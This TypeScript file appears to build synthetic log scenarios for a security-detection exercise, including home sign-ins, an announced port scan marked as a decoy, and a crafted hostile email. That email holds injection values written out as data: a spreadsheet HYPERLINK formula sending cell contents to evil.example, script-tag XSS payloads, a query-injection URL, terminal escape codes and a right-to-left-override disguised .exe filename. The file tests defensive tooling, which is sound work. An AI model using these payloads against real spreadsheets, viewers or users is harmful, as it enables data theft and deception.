import { gust0931 } from "../../profiles/gust-0931.js";
import { employeeOf, machineNamed } from "../actors.js";
import { lookalikes, profiled } from "../indicators.js";
import { images } from "../processes.js";
import { receive } from "../receive.js";
import { accept } from "../tables/device-network-events.js";
import { signIn } from "../tables/entra-id-sign-in-events.js";
import { HOME } from "../whereabouts.js";
import { moment } from "./seat.js";
import type { Story } from "./story.js";
import { traces } from "./traces.js";

/** Households that had a hijacked camera last autumn; an employee is at one of the addresses by now. */
export const householdStory: Story = ({ log }) => {
  const found = traces(log, gust0931.title, profiled(gust0931));
  for (const time of ["02-01T19:10:00", "02-08T20:45:00", "02-21T18:02:00"]) {
    const duarte = { by: employeeOf("s.duarte"), address: "192.0.2.131", place: HOME };
    found.outside(signIn(log, { ...duarte, at: moment(time) }));
  }
};

/** The test of the build servers that had been announced. */
export const announcedTestStory: Story = ({ log, office, random }) => {
  const found = traces(log, "announced-test", lookalikes("198.51.100.60", "198.51.100.61"));
  const machine = machineNamed("build-03");
  const process = office.system(machine, images.systemd);
  const ports = [22, 80, 443, 3000, 5432, 6379, 8080, 8443, 9000, 9090];
  const rows = ports.flatMap((openPort, index) =>
    ["198.51.100.60", "198.51.100.61"].map((address, half) => {
      const at = moment("02-24T20:02:00") + index * 4_100 + half * 600_000 + random.int(0, 900);
      return accept(log, { at, process, address, localPort: 40_112 + index, openPort, url: null });
    }),
  );
  found.decoy(rows);
};

/** A message that is written to break what shows it. */
export const hostileStory: Story = ({ log }) => {
  const found = traces(log, "hostile-evidence", lookalikes("hostile-values.example"));
  const message = {
    at: moment("03-01T17:09:00"),
    subject: '=HYPERLINK("https://evil.example/?x="&A1,"alert") <script>alert(1)</script>',
    from: "x@hostile-values.example",
    sender: "\u202Eeman desrever \u001b[2J",
    address: "203.0.113.240",
    to: employeeOf("s.duarte"),
    urls: [
      "https://hostile-values.example/?q=' | union * //",
      'https://hostile-values.example/"><script>alert(6)</script>',
    ],
    attachments: [{ name: "invoice\u202Efdp.exe", type: "exe", size: 4_096, content: "hostile attachment" }],
  };
  found.hit(...receive(log, message));
};
